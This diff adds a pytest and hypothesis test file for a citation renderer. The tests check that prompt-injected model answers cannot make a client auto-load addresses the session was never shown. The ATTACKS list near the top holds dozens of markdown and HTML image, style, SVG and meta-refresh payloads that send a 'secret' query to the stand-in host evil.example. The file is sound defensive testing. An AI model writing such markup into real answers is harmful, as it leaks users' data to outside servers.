@@ -1,0 +1,124 @@
+"""Whatever a page talked the model into writing, showing the answer loads nothing that nobody showed the session."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from groundwire.citations.link_filter import LinkFilter, neutralized
+from groundwire.citations.rendering import ChannelName, CitationStream, render_answer
+from groundwire.errors import InvalidRequest
+from groundwire.models import Source
+
+pytestmark = pytest.mark.req("B24")
+
+EVIL, KNOWN = "https://evil.example/?q=secret", "https://a.example/pic.png"
+SOURCES = [Source(citation_id=1, title="Ships", url=KNOWN)]
+CHANNELS: list[ChannelName] = ["markdown", "html", "telegram_markdown_v2", "telegram_html", "slack"]
+RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+LOADING = {"src", "srcset", "poster", "background", "data", "href", "style", "action", "content"}
+ATTACKS = [
+    f"![x]({EVIL})",
+    f"![x](<{EVIL}> 'title')",
+    f"![x][r]\n\n[r]: {EVIL}",
+    f"![r]\n\n[r]: {EVIL}",
+    f"![1]\n\n[1]: {EVIL}",
+    f"![2]\n\n> [2]:\n> {EVIL}",
+    f"` ![x]({EVIL})",
+    f"`a\n# b` ![x]({EVIL})",
+    f"| ` | ![x]({EVIL}) | ` |\n| - | - | - |",
+    f"- ```\n![x]({EVIL})",
+    f"> ```\n![x]({EVIL})",
+    f"```a`b\n![x]({EVIL})",
+    f"<div>\n```\n<img src={EVIL}>",
+    f"<p>\n```\n<img src={EVIL}>",
+    f"<img src='{EVIL}'>",
+    f"<IMG\nsrc={EVIL}>",
+    f"<b style='background:url({EVIL})'>x</b>",
+    f"<!-- x --><svg><image href={EVIL} /></svg>",
+    f"<style>@import '{EVIL}'</style>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"![x`]({KNOWN})`]({EVIL})",
+    f"![x<a b=']({KNOWN})'>]({EVIL})",
+    f"![x]({KNOWN}?q=secret)",
+    f"![x]({KNOWN}/../../evil?q=secret)",
+    f"\\\\![x]({EVIL})",
+    f"![a ![x]({EVIL})]({KNOWN})",
+    f"[![x]({EVIL})]({KNOWN})",
+    "![x](//evil.example/?q=secret)",
+    "![x](https:&#x2f;/evil.example/)",
+]
+
+
+class _Loads(HTMLParser):
+    """Collects the addresses that a browser would load by itself."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found += [value or "" for name, value in attrs if name in LOADING and not (tag == "a" and name == "href")]
+        if tag in {"style", "script"}:
+            self.found.append(tag)
+
+
+def loads(markdown: str) -> set[str]:
+    parser = _Loads()
+    parser.feed(RENDERER.render(markdown))
+    parser.close()
+    return set(parser.found)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_answer_loads_only_what_the_session_was_shown(attack: str) -> None:
+    shown = render_answer(f"Ships sail [1].\n\n{attack}\n", SOURCES, "markdown", footer=False).text
+    assert loads(shown) <= {KNOWN}
+
+
+@pytest.mark.parametrize("attack", ATTACKS[:3])
+@pytest.mark.parametrize("channel", CHANNELS[2:])
+def test_an_address_that_would_be_previewed_is_none_any_more(channel: ChannelName, attack: str) -> None:
+    assert "https://evil" not in render_answer(attack, SOURCES, channel).text.replace("\\", "")
+    assert "https://evil" in render_answer(attack, SOURCES, channel, untrusted_images="keep").text.replace("\\", "")
+
+
+MARKS = "![ ]( ) ` `` ```\n ~~~\n <img\tsrc= > <div> <p> </p> <!-- -\t >\t \t [1] [1]: [r]: \\ x | <br> [ ] #\t ' \""
+PIECES = st.sampled_from([*(mark.replace("\t", " ") for mark in MARKS.split(" ")), EVIL, KNOWN, "\n", "\n\n", "    "])
+
+
+@given(st.lists(PIECES, max_size=24).map("".join))
+def test_no_mixture_of_marks_loads_anything_else(answer: str) -> None:
+    made = neutralized(answer, [KNOWN])
+    assert len(made) == len(answer)
+    assert all(url == KNOWN for url in loads(made))
+
+
+@given(st.lists(PIECES, max_size=24).map("".join), st.sampled_from(["known", "any"]), st.booleans())
+def test_chunks_do_not_matter(answer: str, links: str, markdown: bool) -> None:
+    def made() -> LinkFilter:
+        return LinkFilter([KNOWN], links="known" if links == "known" else "any", markdown=markdown)
+
+    whole, single = made(), made()
+    assert whole.feed(answer) + whole.close() == "".join(map(single.feed, answer)) + single.close()
+
+
+def test_what_is_known_and_what_is_code_stay() -> None:
+    code = f"`<img src={EVIL}>` [1]\n\n```html\n<img src={EVIL}>\n```"
+    answer = f"![x]({KNOWN}) and {code}\n\n[link]({EVIL}) <br> a < b! Wow![9]"
+    assert neutralized(answer, [KNOWN]) == answer
+
+
+def test_links_are_left_out_when_asked() -> None:
+    made = neutralized(f"[a]({EVIL}) {EVIL} <{EVIL}> [b]({KNOWN}) {KNOWN}.", [KNOWN], links="known")
+    assert "https://evil" not in made
+    assert made.endswith(f"[b]({KNOWN}) {KNOWN}.")
+
+
+def test_another_choice_is_refused() -> None:
+    with pytest.raises(InvalidRequest, match="untrusted_images"):
+        CitationStream((), untrusted_images="burn")  # type: ignore[arg-type]
